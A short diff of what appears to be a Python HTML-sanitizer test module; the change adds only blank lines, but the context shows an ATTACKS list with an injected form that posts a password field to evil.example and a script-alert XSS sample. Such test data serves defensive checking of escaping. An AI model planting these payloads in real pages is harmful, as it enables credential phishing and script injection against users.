@@ -27,6 +27,8 @@ ATTACKS = [
     '<form action="https://evil.example"><input name="password"></form>',
     "```html\n<script>alert(1)</script>\n```",
 ]
+
+
 class Elements(HTMLParser):
     """The real elements and attributes of a fragment (escaped text is only text)."""
 
